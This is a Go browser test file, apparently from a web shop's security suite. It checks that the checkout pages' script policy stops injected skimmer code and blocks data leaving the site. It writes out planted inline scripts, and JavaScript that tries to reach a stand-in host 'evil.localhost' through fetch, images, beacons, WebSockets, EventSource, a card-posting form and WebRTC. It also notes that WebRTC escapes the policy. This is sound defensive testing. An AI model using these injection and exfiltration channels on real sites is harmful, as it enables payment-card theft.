//go:build browser

package attack

import (
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"os"
	"strings"
	"testing"

	"strongroom/base/db"
	"strongroom/base/lang"
	"strongroom/tools/journey/chrome"
	"strongroom/tools/journey/stage"
	"strongroom/tools/journey/tour"
)

// shopper is somebody with a real browser in the altered shop, who believes the keys of others that are named.
func (x *skimmed) shopper(t *testing.T, others ...[]byte) *tour.Guide {
	t.Helper()
	b, err := os.ReadFile(x.Certificate())
	fatal(t, err)
	block, _ := pem.Decode(b)
	leaf, err := x509.ParseCertificate(block.Bytes)
	fatal(t, err)
	var keys []string
	for _, spki := range append(others, leaf.RawSubjectPublicKeyInfo) {
		sum := sha256.Sum256(spki)
		keys = append(keys, base64.StdEncoding.EncodeToString(sum[:]))
	}
	browser, err := chrome.Open(t.Context(), keys)
	fatal(t, err)
	t.Cleanup(browser.Close)
	texts, err := lang.Load(lang.Messages())
	fatal(t, err)
	g := &tour.Guide{Page: browser.Page(t, chrome.Options{Width: 1280, Height: 900}), P: texts.For("en"), Lang: "en", Demo: &stage.Demo{Shop: x.Shop}}
	t.Cleanup(g.Close)
	return g
}

// inlineBlocked has a browser open an altered page: the script on it does not run.
func (x *skimmed) inlineBlocked(t *testing.T) string {
	if !full && x.Engine != db.SQLite {
		return ""
	}
	x.put(`<script>window.skimmed = 1</script><p id="planted" onclick="window.skimmed = 2">x</p>`, nil)
	g := x.shopper(t)
	g.Add("/p/bowl")
	for _, path := range []string{"/cart", "/checkout", "/order/link"} {
		g.Goto(g.To(path))
		if !g.Has("#planted") {
			t.Fatalf("%s: nothing was planted", path)
		}
		g.Eval(`document.querySelector("#planted").click()`, nil)
		if g.Bool("window.skimmed") {
			t.Errorf("%s: a planted script ran", path)
		}
	}
	if said := strings.Join(g.Troubles(), " "); !strings.Contains(said, "script-src") {
		t.Errorf("the browser says nothing of the script: %q", said)
	}
	return "; none ran in Chromium"
}

// nothingLeaves has the pages of the checkout try every way themselves, as code would that got past everything else: the
// debugger runs it. Nothing reaches the foreign host over HTTP, WebSocket or a form. Chromium lets no page forbid WebRTC, so
// that its packets are only counted: what stands against them is that no script runs there (row 1), and that one which is
// put on a page is told of, as the first half of this row has shown.
func (x *skimmed) nothingLeaves(t *testing.T) string {
	if !full && x.Engine != db.SQLite {
		return ""
	}
	far := openThief(t)
	g := x.shopper(t, far.Certificate().RawSubjectPublicKeyInfo)
	_, port, err := net.SplitHostPort(strings.TrimPrefix(far.URL, "https://"))
	fatal(t, err)
	lair := "evil.localhost:" + port
	g.Goto("https://" + lair + "/") // the control: the browser can reach it
	if far.came.Swap(0) == 0 {
		t.Fatal("the foreign host cannot be reached: this test would see nothing")
	}
	g.Add("/p/bowl")
	for _, path := range []string{"/checkout", "/order/link"} {
		g.Goto(g.To(path))
		var tried map[string]string
		var raw json.RawMessage
		g.Eval(fmt.Sprintf(tries, lair, far.udp.LocalAddr().String()), &raw)
		fatal(t, json.Unmarshal(raw, &tried))
		for _, way := range []string{"fetch", "image", "beacon", "socket", "source"} {
			if tried[way] != "refused" {
				t.Errorf("%s: %s was %q", path, way, tried[way])
			}
		}
		g.Eval(`(() => { const f = document.createElement("form"); f.method = "post"; f.action = "https://`+lair+`/card"; document.body.append(f); f.submit() })()`, nil)
		for range 50 { // the browser refuses a moment later
			g.Wait("the page", "true")
		}
		if !strings.HasPrefix(g.URL(), x.Shop) {
			t.Errorf("%s: a form led away to %s", path, g.URL())
		}
		if n := far.came.Swap(0); n > 0 {
			t.Errorf("%s: the foreign host was reached %d times", path, n)
		}
	}
	g.Troubles()
	return fmt.Sprintf("; in Chromium fetch, image, beacon, WebSocket, event source and form reached nobody, run by a debugger; WebRTC would (%d packets), but no script runs", far.packets.Load())
}

// tries is what a page does that wants to reach another host. It answers with how each way ended.
const tries = `(async () => {
  const far = %q, stun = %q, out = {};
  const timed = (name, p) => Promise.race([p, new Promise(r => setTimeout(() => r("nothing"), 1500))]).then(v => { out[name] = v });
  await Promise.all([
    timed("fetch", fetch("https://" + far + "/f", {mode: "no-cors"}).then(() => "done", () => "refused")),
    timed("image", new Promise(r => { const i = new Image(); i.onload = () => r("done"); i.onerror = () => r("refused"); i.src = "https://" + far + "/i" })),
    timed("beacon", new Promise(r => { document.addEventListener("securitypolicyviolation", e => { if (e.blockedURI.endsWith("/b") || e.effectiveDirective === "connect-src") r("refused") }); navigator.sendBeacon("https://" + far + "/b", "x") })),
    timed("socket", new Promise(r => { try { const s = new WebSocket("wss://" + far + "/s"); s.onopen = () => r("done"); s.onerror = () => r("refused") } catch (e) { r("refused") } })),
    timed("source", new Promise(r => { try { const s = new EventSource("https://" + far + "/e"); s.onopen = () => r("done"); s.onerror = () => { s.close(); r("refused") } } catch (e) { r("refused") } })),
    timed("rtc", (async () => { try { const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + stun}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer());
      return await new Promise(r => { c.onicecandidateerror = () => r("refused"); c.onicegatheringstatechange = () => { if (c.iceGatheringState === "complete") r("nothing") } }) } catch (e) { return "refused" } })()),
  ]);
  return out;
})()`
